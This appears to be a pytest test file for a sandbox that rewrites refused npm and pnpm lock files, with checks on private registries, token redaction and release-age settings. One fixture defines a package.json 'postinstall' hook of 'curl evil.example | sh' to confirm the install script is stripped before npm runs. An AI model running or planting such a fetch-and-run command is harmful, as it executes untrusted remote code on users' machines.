"""A checkout whose lock file is refused opens in the environment of the one that its manager writes."""

import json
from pathlib import Path

import pytest

from sandbox.checkout import FolderContents
from sandbox.diffs import Original
from sandbox.drifted_lock import is_refused_there, repair_lock
from sandbox.errors import LockDrift, SetupFailed
from sandbox.recipe.node_settings import other_registry
from sandbox.setup.node.lock_file import SHOWN
from sandbox.snapshot import EnvironmentOrigin, Snapshotter
from sandbox.spec import SandboxSpec
from sandbox.types import (
    LOCK_RUNNER,
    CalledWorkflow,
    Checkout,
    CommandResult,
    FileEdit,
    FolderSource,
    JobHints,
    NodePart,
    Recipe,
    TrustTier,
)
from sandbox.workspace import Sandboxes
from tests.fakes.scripted_backend import ScriptedBackend

pytestmark = pytest.mark.anyio
LOCK = "package-lock.json"
PNPM_LOCK, SETTINGS_FILE = "pnpm-lock.yaml", "pnpm-workspace.yaml"
REFUSAL = (
    "npm error code EUSAGE\nnpm error `npm ci` can only install packages when your package.json "
    "and package-lock.json or npm-shrinkwrap.json are in sync.\nnpm error Missing: ms@2.1.3\n"
)
OLD = '{"name": "web", "packages": {}}\n'
MORE = {f"node_modules/p{number}": {"version": "1.0.0"} for number in range(SHOWN + 2)}
NEW = json.dumps({"name": "web", "packages": MORE}) + "\n"
SCRIPTS = {"test": "node --test", "postinstall": "curl evil.example | sh"}
PACKAGE = json.dumps({"name": "web", "license": "MIT", "scripts": SCRIPTS, "main": "x.js"})


class Project:
    """A repository with a lock file that npm refuses.

    Args:
        folder: Where it is.
        failing: The end of one more command that fails.
    """

    def __init__(self, folder: Path, *, failing: str = "nothing") -> None:
        self.failing = failing
        self.backend = ScriptedBackend(self.script)
        self.backend.edits = (FileEdit(path=LOCK, mode="100644", content=NEW.encode()),)
        self.sandboxes = Sandboxes(SandboxSpec(), self.backend, folder / "data")
        project = folder / "project"
        workflow = project / ".github/workflows/ci.yml"
        workflow.parent.mkdir(parents=True)
        steps = [{"run": "npm ci"}, {"run": "npm test"}]
        jobs = {"c": {"runs-on": "x", "steps": steps}}
        workflow.write_text(json.dumps({"on": "push", "jobs": jobs}))
        (project / LOCK).write_text(OLD)
        (project / "package.json").write_text(PACKAGE)
        hints = JobHints(job_name="c", step_name="Run npm test")
        self.checkout = Checkout(source=FolderSource(path=str(project)), hints=hints)

    def script(self, argv: tuple[str, ...]) -> CommandResult | None:
        line = " ".join(argv)
        if line.endswith(" ci"):
            placed = self.backend.setups[-1].unpacked["/opt/env/node/tree"][LOCK]
            if placed != NEW.encode():
                return CommandResult(argv=argv, exit_code=1, stderr=REFUSAL)
        if line.endswith(self.failing):
            return CommandResult(argv=argv, exit_code=1, stderr="npm error code ERESOLVE")
        said = {"registry": "https://registry.example/\n", "--version": "10.9.2\n"}
        return CommandResult(argv=argv, exit_code=0, stdout=said.get(argv[-1], ""))

    def count(self, end: str) -> int:
        ran = (" ".join(argv) for guest in self.backend.setups for argv in guest.commands)
        return sum(line.endswith(end) for line in ran)


async def test_the_command_is_red_until_the_checkout_has_the_written_lock_file(
    tmp_path: Path,
) -> None:
    project = Project(tmp_path)
    async with project.sandboxes.open_workspace(project.checkout) as workspace:
        repair = (await workspace.facts()).lock_repair
        assert repair is not None
        assert (repair.path, repair.content, repair.program) == (LOCK, NEW, "npm 10.9.2")
        assert (len(repair.packages), repair.more) == (SHOWN, 2)
        assert repair.packages[0] == "`p0` 1.0.0 is added"
        (guest,) = project.backend.guests
        guest.files[LOCK] = OLD.encode()
        before = len(guest.commands)
        report = await workspace.run_tests()
        assert (report.success, report.runner, report.ended_at) == (False, LOCK_RUNNER, "npm ci")
        assert "Missing: ms@2.1.3" in report.raw_output
        assert len(guest.commands) == before, "the job does not come to its tests"
        guest.files[LOCK] = NEW.encode()
        assert (await workspace.run_tests()).runner != LOCK_RUNNER
        assert len(guest.commands) > before
    await project.sandboxes.close()


async def test_all_workspaces_of_a_mission_have_the_same_lock_file(tmp_path: Path) -> None:
    project = Project(tmp_path)
    for _ in range(2):
        async with project.sandboxes.open_workspace(project.checkout) as workspace:
            assert (await workspace.facts()).lock_repair is not None
    await project.sandboxes.close()
    assert project.count("--package-lock-only") == 1
    assert project.count(" ci") == 2, "refused once, installed once"


async def test_npm_sees_what_it_repeats_in_the_lock_file_and_no_script(tmp_path: Path) -> None:
    project = Project(tmp_path)
    async with project.sandboxes.open_workspace(project.checkout) as workspace:
        await workspace.facts()
    await project.sandboxes.close()
    (seen,) = [g.unpacked[g.workdir] for g in project.backend.setups if g.workdir in g.unpacked]
    repeated = {"name": "web", "license": "MIT", "hasInstallScript": True}
    assert json.loads(seen["package.json"]) == repeated


async def test_a_lock_file_that_cannot_be_written_stays_a_question(tmp_path: Path) -> None:
    project = Project(tmp_path, failing="--package-lock-only")
    async with project.sandboxes.open_workspace(project.checkout) as workspace:
        with pytest.raises(LockDrift, match="npm ci") as caught:
            await workspace.facts()
    await project.sandboxes.close()
    assert "in sync" in caught.value.log
    assert "could not write package-lock.json" in caught.value.advice


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (".npmrc", "@company:registry=https://npm.company.example\n"),
        (".npmrc", "#" * ((1 << 20) + 1)),
        (".yarnrc", ""),
        (".github/workflows/more.yml", "# registry-url: https://npm.company.example\n"),
        (".github/workflows/ci.yml", "# registry-url: https://npm.company.example\n"),
        (".github/workflows/ci.yml", "# npm config set @company:registry https://x.example\n"),
        (".github/workflows/ci.yml", "# npm set registry ${{ vars.REGISTRY }}\n"),
        (".github/workflows/ci.yml", "# npm ci --registry https://npm.company.example\n"),
        (".github/workflows/ci.yml", "# run: cp ci/settings ~/.npmrc\n"),
        (".github/actions/install/action.yml", "# registry-url: https://npm.company.example\n"),
        ("scripts/install.sh", "echo @company:registry=https://npm.company.example >> rc\n"),
    ],
)
async def test_no_private_package_is_looked_up_in_the_public_registry(
    tmp_path: Path, name: str, text: str
) -> None:
    project = Project(tmp_path)
    path = tmp_path / "project" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text + (path.read_text() if path.exists() else ""))
    async with project.sandboxes.open_workspace(project.checkout) as workspace:
        if name.endswith("more.yml"):
            assert (await workspace.facts()).lock_repair is not None, "it is not the job's"
        else:
            with pytest.raises(LockDrift) as caught:
                await workspace.facts()
            assert f"{name} may name another registry" in caught.value.advice
            assert project.count("--package-lock-only") == 0
    await project.sandboxes.close()


@pytest.mark.parametrize(
    ("folder", "path", "workflow"),
    [
        ("a/b", "a/.yarnrc.yml", "ci.yml"),
        ("a/b", "a/b/.npmrc", "ci.yml"),
        ("a/b", "a/b/c/.npmrc", ""),
        ("a/b", ".github/workflows/ci.yml", ""),
    ],
)
def test_settings_of_every_folder_above_count(folder: str, path: str, workflow: str) -> None:
    contents = {path: b"npmScopes: {company: {registry-url: x}}"}
    expected = None if path == "a/b/c/.npmrc" else path
    places = [f".github/workflows/{workflow}"] if workflow else []
    contents |= {one: b"" for one in places if one not in contents}
    assert other_registry(contents.keys(), contents, folder, places) == expected


@pytest.mark.parametrize("text", ["# registry-url: https://npm.company.example", ""])
async def test_a_called_workflow_counts_as_the_job_s(tmp_path: Path, text: str) -> None:
    project = Project(tmp_path)
    ci = tmp_path / "project/.github/workflows/ci.yml"
    (ci.parent / "called.yml").write_text(f"{ci.read_text()}\n{text}")
    uses = "./.github/workflows/called.yml"
    ci.write_text(json.dumps({"jobs": {"a": {"uses": uses}}}))
    hints = JobHints(job_name="a / c", step_name="Run npm test")
    checkout = project.checkout.with_(hints=hints)
    async with project.sandboxes.open_workspace(checkout) as workspace:
        if text:
            with pytest.raises(LockDrift) as caught:
                await workspace.facts()
            assert f"{uses[2:]} may name another registry" in caught.value.advice
        else:
            assert (await workspace.facts()).lock_repair is not None
    await project.sandboxes.close()


async def test_no_lock_file_is_written_for_a_workflow_of_another_repository(
    tmp_path: Path,
) -> None:
    project = Project(tmp_path)
    ci = tmp_path / "project/.github/workflows/ci.yml"
    path = ".github/workflows/node.yml"
    called = CalledWorkflow(
        repository="org/ci", path=path, ref="v1", sha="1" * 40, text=ci.read_text()
    )
    ci.write_text(json.dumps({"jobs": {"a": {"uses": f"org/ci/{path}@v1"}}}))
    hints = JobHints(job_name="a / c", step_name="Run npm test", called=(called,))
    async with project.sandboxes.open_workspace(project.checkout.with_(hints=hints)) as workspace:
        with pytest.raises(LockDrift) as caught:
            await workspace.facts()
    await project.sandboxes.close()
    assert f"org/ci/{path}@{'1' * 40} may name another registry" in caught.value.advice


async def test_a_written_lock_file_is_not_remembered_past_a_registry_named_later(
    tmp_path: Path,
) -> None:
    project = Project(tmp_path)
    async with project.sandboxes.open_workspace(project.checkout) as workspace:
        assert (await workspace.facts()).lock_repair is not None
    (tmp_path / "project/.npmrc").write_text("@company:registry=https://npm.company.example\n")
    async with project.sandboxes.open_workspace(project.checkout) as workspace:
        with pytest.raises(LockDrift) as caught:
            await workspace.facts()
    await project.sandboxes.close()
    assert ".npmrc may name another registry" in caught.value.advice


async def test_a_secret_of_a_lock_file_is_not_quoted(tmp_path: Path) -> None:
    project = Project(tmp_path)
    token = "ghp_" + "a1B2" * 9
    address = f"https://{token}@npm.company.example/ms/-/ms.tgz"
    (tmp_path / "project" / LOCK).write_text(f'{{\n"resolved": "{address}"\n}}\n')
    async with project.sandboxes.open_workspace(project.checkout) as workspace:
        with pytest.raises(LockDrift) as caught:
            await workspace.facts()
    await project.sandboxes.close()
    assert "has packages from https://" in caught.value.advice
    assert token not in caught.value.advice


@pytest.mark.parametrize("is_workspace", [True, False])
async def test_no_package_of_a_workspace_is_dropped_because_it_is_not_read(
    *, is_workspace: bool, tmp_path: Path
) -> None:
    """A manager removes packages from its lock file that it does not see."""
    project = Project(tmp_path)
    if is_workspace:
        package = json.loads(PACKAGE) | {"workspaces": ["packages/**"]}
        (tmp_path / "project/package.json").write_text(json.dumps(package))
    deep = tmp_path / "project/packages/a/b/c/d/e/f/package.json"
    deep.parent.mkdir(parents=True)
    deep.write_text("{}")
    async with project.sandboxes.open_workspace(project.checkout) as workspace:
        if is_workspace:
            with pytest.raises(LockDrift) as caught:
                await workspace.facts()
            assert "packages/a/b/c/d/e/f/package.json" in caught.value.advice
        else:
            assert (await workspace.facts()).lock_repair is not None
    await project.sandboxes.close()


LOCK_9 = "lockfileVersion: '9.0'\n"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (PNPM_LOCK, f"{LOCK_9}pnpmfileChecksum: abc\n"),
        (".pnpmfile.cjs", ""),
        (SETTINGS_FILE, "minimumReleaseAge: 1440\n"),
        (".npmrc", "minimum-release-age=1440\n"),
        (".npmrc", "min-release-age = 7\n"),
        (".npmrc", "before=2026-01-01\n"),
        (".yarnrc.yml", "npmMinimalAgeGate: 1d\n"),
        ("package.json", '{"pnpm": {"trustPolicy": "no-downgrade"}}'),
    ],
)
async def test_versions_that_hooks_or_an_age_choose_are_not_written_without(
    name: str, text: str
) -> None:
    node = NodePart(manager="pnpm", manager_version="10.1.0", folders=(".",))
    contents = {"package.json": b"{}", PNPM_LOCK: LOCK_9.encode()} | {name: text.encode()}
    backend = ScriptedBackend()
    with pytest.raises(SetupFailed, match=f"{name} chooses"):
        await repair_lock(
            LockDrift("it is refused", refused="pnpm install"),
            Recipe(command="pnpm test", parts=(node,)),
            contents.keys(),
            contents,
            origin=EnvironmentOrigin(repository_id="1", tier=TrustTier.BRANCH),
            snapshotter=Snapshotter(backend, SandboxSpec()),
        )
    assert backend.setups == []


@pytest.mark.parametrize(
    ("placed", "is_refused"),
    [
        ({}, True),
        ({PNPM_LOCK: NEW}, False),
        ({"package.json": "{}"}, False),
        ({"package.json": None}, False),
        ({"package.json": PACKAGE.replace("x.js", "y.js")}, True),
        ({SETTINGS_FILE: '{"catalog": {"ms": "2.1.2"}}'}, False),
        ({"package.json": '{"dependencies": {"ms": "1"}}', SETTINGS_FILE: None}, False),
    ],
    ids=[
        *("the same", "another lock file", "other packages", "no packages"),
        *("other code", "other versions of a catalog", "no catalog"),
    ],
)
async def test_the_base_commit_is_judged_by_its_own_files(
    placed: dict[str, str | None], *, is_refused: bool
) -> None:
    catalog = '{"catalog": {"ms": "2.1.3"}}'
    head = {PNPM_LOCK: OLD, "package.json": PACKAGE, SETTINGS_FILE: catalog}
    node = NodePart(manager="pnpm", folders=(".",))
    files = {name: text for name, text in {**head, **placed}.items() if text is not None}
    source = FolderContents.of({n: Original(content=t.encode()) for n, t in files.items()})
    contents = {name: text.encode() for name, text in head.items()}
    recipe = Recipe(command="pnpm test", parts=(node,))
    assert await is_refused_there(recipe, source, contents.keys(), contents) is is_refused
